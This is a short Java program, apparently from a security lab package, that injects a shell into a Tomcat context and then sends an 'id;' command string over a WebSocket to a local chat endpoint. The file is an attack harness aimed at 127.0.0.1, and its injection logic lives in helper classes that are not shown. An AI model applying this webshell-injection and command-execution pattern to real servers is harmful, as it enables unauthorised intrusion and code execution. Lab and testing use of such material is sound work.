import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.WebSocket;
import whorl.lab.attack.Attacker;
import whorl.lab.attack.Shells;
import whorl.lab.attack.TomcatContext;

public class Attack {
  public static void main(String[] args) throws Exception {
    Shells.inject(TomcatContext.class, Shell.class);
    System.out.println("lab: sent " + System.currentTimeMillis() + " GET /chat");
    WebSocket socket =
        HttpClient.newHttpClient()
            .newWebSocketBuilder()
            .buildAsync(URI.create("ws://127.0.0.1:8080/chat"), new WebSocket.Listener() {})
            .join();
    socket.sendText("id; " + Attacker.touch(), true).join();
    Thread.sleep(3_000);
    Attacker.done();
  }
}
